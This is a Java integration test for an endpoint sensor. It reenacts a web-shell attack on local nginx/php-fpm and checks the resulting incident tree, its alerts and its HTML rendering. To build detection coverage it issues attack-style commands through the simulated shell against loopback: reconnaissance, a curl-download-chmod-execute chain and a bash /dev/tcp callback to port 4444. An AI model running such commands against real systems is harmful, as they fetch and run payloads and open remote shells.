package io.spawnwatch.daemon;

import static io.spawnwatch.daemon.SensorHarness.execOf;
import static io.spawnwatch.daemon.SensorHarness.text;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.spawnwatch.config.ConfigLoader;
import io.spawnwatch.config.SensorConfig;
import io.spawnwatch.control.Protocol;
import io.spawnwatch.incident.HeadlessChromium;
import io.spawnwatch.incident.IncidentSink;
import io.spawnwatch.incident.IncidentStore;
import io.spawnwatch.incident.IncidentSummary;
import io.spawnwatch.incident.SinkDrain;
import io.spawnwatch.incident.render.HtmlPage;
import io.spawnwatch.incident.render.TextTree;
import io.spawnwatch.incident.tree.Activity;
import io.spawnwatch.incident.tree.AlertMark;
import io.spawnwatch.incident.tree.IncidentTree;
import io.spawnwatch.incident.tree.ProcessNode;
import io.spawnwatch.incident.tree.TreeBuilder;
import io.spawnwatch.output.SinkStats;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.function.Predicate;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The web-shell chain on Debian's nginx + php-fpm under the real sensor, seen
 * as an incident: one incident, rooted at the php-fpm master; every step's
 * process at its place in the tree; the callback connection under the bash
 * that made it; the alerts on the right nodes; the benign requests served
 * between the attack's steps (a page that runs date, the way applications
 * run programs) left out. Then the store is reopened from its file (a
 * restart), and the page is opened in headless Chromium: no console error,
 * every node in the DOM, a screenshot (target/incident-demo/, which the
 * README's picture comes from).
 */
@Tag("kernel")
class IncidentTreeTest {
    private static final Duration WAIT = Duration.ofSeconds(15);
    private static final int CALLBACK_PORT = 4444;
    private static final Path DEMO = Path.of("target/incident-demo");

    @TempDir
    Path tmp;

    @Test
    void shouldShowTheWebShellAsOneIncidentTreeWithoutTheBenignRequests() throws Exception {
        SensorConfig defaults = ConfigLoader.defaults();
        SensorConfig config = defaults.withDetection(defaults.detection()
                .withStatePath(tmp.resolve("baselines.db").toString())
                .withInternalRanges(List.of()).withLoopbackRanges(List.of()))
                .withIncidents(defaults.incidents().withPath(tmp.resolve("incidents/incidents.db").toString()));
        String dropped = "/tmp/sw-" + UUID.randomUUID().toString().substring(0, 8);
        String payloadName = Path.of(dropped).getFileName().toString();
        Predicate<JsonNode> dateAlert = d -> "alert".equals(text(d, "event.kind"))
                && "date".equals(text(d, "process.name"));

        // History: the host served the date page before, so its new-terms
        // baseline (kept on disk) knows `date +%s`: the first sight alerted,
        // the next ones will not. No incident store on that earlier run.
        try (SensorHarness before = SensorHarness.start(config.withIncidents(config.incidents().withPath(null)));
                RealWebServers web = new RealWebServers()) {
            web.get("/date.php");
            before.await(dateAlert, WAIT, "the first sight of date");
        }

        IncidentSummary stored;
        IncidentStore.Detail detail;
        RealWebServers.Pids pids;
        int port;
        IncidentSink sink = IncidentSink.open(config.incidents());
        try (SensorHarness harness = SensorHarness.start(config, List.of(sink));
                RealWebServers web = new RealWebServers();
                ServerSocket callback = new ServerSocket(CALLBACK_PORT, 50, InetAddress.getLoopbackAddress())) {
            WebShellAlertsTest.acceptForever(callback);
            port = web.port;
            pids = new RealWebServers.Pids(web.nginxPid(), web.fpmPid());
            Files.copy(Path.of("/bin/true"), web.dir.resolve("www/x"), StandardCopyOption.COPY_ATTRIBUTES);
            web.get("/index.html");
            web.get("/hello.php");
            web.get("/date.php");
            web.shell("id");
            web.get("/date.php");
            web.shell("uname -a");
            web.get("/date.php");
            web.shell("curl -so " + dropped + " http://127.0.0.1:" + web.port + "/x && chmod +x " + dropped
                    + " && " + dropped);
            web.get("/date.php");
            // '; true': the callback's bash must be a child, so the connection hangs under it in the tree.
            web.shell("bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + CALLBACK_PORT + "'; true");
            web.get("/date.php");

            harness.await(d -> "alert".equals(text(d, "event.kind"))
                    && Integer.toString(CALLBACK_PORT).equals(text(d, "destination.port")), WAIT, "callback alert");
            long deadline = System.nanoTime() + WAIT.toNanos();
            while (count(harness, execOf("date", "date +%s")) < 5 && System.nanoTime() < deadline) {
                Thread.sleep(100);
            }
            // The benign requests really spawned, under the same php-fpm, and raised no alert.
            List<JsonNode> dates = harness.seen().stream().filter(execOf("date", "date +%s")).toList();
            assertEquals(5, dates.size(), "date execs seen by the sensor");
            for (JsonNode d : dates) {
                assertEquals(Long.toString(web.fpmPid()), text(d, "spawnwatch.lineage.root.pid"), d.toString());
            }
            assertEquals(0, count(harness, dateAlert), "alerts on the benign date (seen before this run)");

            Thread.sleep(200); // documents the sensor is still offering
            SinkStats drained = SinkDrain.await(sink, WAIT);
            assertEquals(0, drained.errors() + drained.dropped(), drained + " " + sink.counters());
            List<IncidentSummary> incidents = sink.store().list(0);
            assertEquals(1, incidents.size(), "incidents: " + incidents);
            stored = incidents.getFirst();
            sink.close();

            // A restart: the same incident, read back from the file.
            try (IncidentSink reopened = IncidentSink.open(config.incidents())) {
                assertEquals(List.of(stored), reopened.store().list(0));
                detail = reopened.store().show(stored.id());
            }
        } finally {
            Files.deleteIfExists(Path.of(dropped));
        }
        Path file = tmp.resolve("incidents/incidents.db");
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(file)));
        assertEquals("rwx------", PosixFilePermissions.toString(Files.getPosixFilePermissions(file.getParent())));

        assertEquals(pids.fpm(), stored.rootPid());
        assertEquals("php-fpm8.2", stored.rootName());
        assertEquals("high", stored.level());

        List<JsonNode> docs = new ArrayList<>();
        for (String line : detail.documents()) {
            docs.add(Protocol.JSON.readTree(line));
        }
        JsonNode summary = Protocol.JSON.valueToTree(stored);
        IncidentTree tree = TreeBuilder.build(summary, docs);
        Map<ProcessNode, ProcessNode> parentOf = new HashMap<>();
        for (ProcessNode n : tree.nodes()) {
            n.children().forEach(c -> parentOf.put(c, n));
        }

        ProcessNode root = tree.root();
        assertEquals((int) pids.fpm(), root.pid());
        assertEquals("php-fpm8.2", root.name());
        for (ProcessNode worker : root.children()) {
            assertEquals("php-fpm8.2", worker.name(), "the web server's children are its workers");
            assertEquals("parent", worker.role());
        }
        ProcessNode shId = node(tree, "sh", "sh -c id");
        ProcessNode shUname = node(tree, "sh", "sh -c uname -a");
        ProcessNode shCurl = node(tree, "sh", "sh -c curl -so " + dropped);
        ProcessNode shBash = node(tree, "sh", "sh -c bash -c");
        for (ProcessNode sh : List.of(shId, shUname, shCurl, shBash)) {
            assertTrue(root.children().contains(parentOf.get(sh)), "a shell under a php-fpm worker: " + sh);
        }
        ProcessNode id = node(tree, "id", "id");
        ProcessNode uname = node(tree, "uname", "uname -a");
        ProcessNode curl = node(tree, "curl", "curl -so " + dropped);
        ProcessNode chmod = node(tree, "chmod", "chmod +x " + dropped);
        ProcessNode payload = node(tree, payloadName, dropped);
        ProcessNode bash = node(tree, "bash", "bash -c exec 3<>/dev/tcp/127.0.0.1/" + CALLBACK_PORT);
        assertEquals(shId, parentOf.get(id));
        assertEquals(shUname, parentOf.get(uname));
        assertEquals(shCurl, parentOf.get(curl));
        assertEquals(shCurl, parentOf.get(chmod));
        assertEquals(shCurl, parentOf.get(payload));
        assertEquals(shBash, parentOf.get(bash));
        assertEquals("www-data", bash.user());

        // Connections under the process that made them, and nowhere else.
        Activity c2 = activity(tree, "tcp 127.0.0.1:" + CALLBACK_PORT);
        assertTrue(bash.activities().contains(c2), "the callback under bash: " + bash.activities());
        assertTrue(curl.activities().contains(activity(tree, "tcp 127.0.0.1:" + port)), "the download under curl");

        // Alerts on the right nodes.
        assertTrue(rules(shId.alerts()).containsAll(Set.of(WebShellAlertsTest.SUSPICIOUS_COMMAND,
                WebShellAlertsTest.UNUSUAL_COMMAND, WebShellAlertsTest.UNUSUAL_PROCESS)), "sh -c id: " + shId.alerts());
        assertTrue(rules(uname.alerts()).contains(WebShellAlertsTest.SUSPICIOUS_CHILD_PROCESS), uname.toString());
        assertTrue(rules(curl.alerts()).contains(WebShellAlertsTest.SUSPICIOUS_CHILD_EXECUTION), curl.toString());
        assertTrue(rules(payload.alerts()).containsAll(Set.of(WebShellAlertsTest.SUSPICIOUS_CHILD_EXECUTION,
                WebShellAlertsTest.UNUSUAL_PROCESS)), payload.toString());
        assertEquals(Set.of(WebShellAlertsTest.UNUSUAL_NETWORK), rules(c2.alerts()));
        for (AlertMark a : tree.alerts()) {
            assertTrue(a.tactics().size() + a.techniques().size() > 0, "ATT&CK of " + a);
        }

        // The benign requests are not part of it; the counts add up.
        for (ProcessNode n : tree.nodes()) {
            assertTrue(!"date".equals(n.name()), "a benign date in the incident: " + n);
        }
        Set<Integer> docPids = new TreeSet<>();
        docs.forEach(d -> docPids.add(d.path("process").path("pid").asInt()));
        assertEquals(docPids.size(), stored.processes());
        assertEquals(tree.alerts().size(), stored.alerts());
        assertEquals(docs.stream().filter(d -> !"alert".equals(text(d, "event.kind"))
                && "network".equals(d.path("event").path("category").path(0).asText())).count(),
                stored.connections());
        assertEquals(2, stored.connections(), "the download and the callback");

        Files.createDirectories(DEMO);
        StringWriter text = new StringWriter();
        TextTree.print(tree, new PrintWriter(text), false);
        Files.writeString(DEMO.resolve("incident.txt"), text.toString());
        assertTrue(text.toString().contains("bash[" + bash.pid() + "]"), text.toString());

        Path page = DEMO.resolve("incident.html");
        Files.writeString(page, HtmlPage.render(tree));
        Path png = DEMO.resolve("incident.png");
        Files.deleteIfExists(png);
        try (HeadlessChromium chromium = HeadlessChromium.start(1280, 1500)) {
            chromium.open(page.toAbsolutePath());
            assertEquals(List.of(), chromium.errors(), "console and log errors");
            String dom = chromium.dom();
            for (ProcessNode n : tree.nodes()) {
                assertTrue(dom.contains("id=\"svg-" + n.key() + "\""), "node " + n.key() + " drawn");
                assertTrue(dom.contains("id=\"node-" + n.key() + "\""), "node " + n.key() + " described");
            }
            for (int i = 0; i < docs.size(); i++) {
                assertTrue(dom.contains("id=\"doc-" + i + "\""), "document " + i);
            }
            chromium.screenshot(png);
        }
        byte[] image = Files.readAllBytes(png);
        assertTrue(image.length > 10_000 && image[1] == 'P' && image[2] == 'N' && image[3] == 'G', "a PNG");
    }

    private static ProcessNode node(IncidentTree tree, String name, String commandLinePrefix) {
        ProcessNode found = null;
        for (ProcessNode n : tree.nodes()) {
            if (name.equals(n.name()) && n.commandLine() != null && n.commandLine().startsWith(commandLinePrefix)) {
                assertTrue(found == null, "two nodes for " + name + " " + commandLinePrefix);
                found = n;
            }
        }
        assertNotNull(found, "no node " + name + " '" + commandLinePrefix + "' in " + tree.nodes());
        return found;
    }

    private static Activity activity(IncidentTree tree, String summary) {
        Activity found = null;
        for (ProcessNode n : tree.nodes()) {
            for (Activity a : n.activities()) {
                if (a.summary().equals(summary)) {
                    assertTrue(found == null, "two activities " + summary);
                    found = a;
                }
            }
        }
        assertNotNull(found, "no activity " + summary);
        return found;
    }

    private static Set<String> rules(List<AlertMark> alerts) {
        Set<String> ids = new TreeSet<>();
        alerts.forEach(a -> ids.add(a.ruleId()));
        return ids;
    }

    private static int count(SensorHarness harness, Predicate<JsonNode> p) {
        return (int) harness.seen().stream().filter(p).count();
    }
}
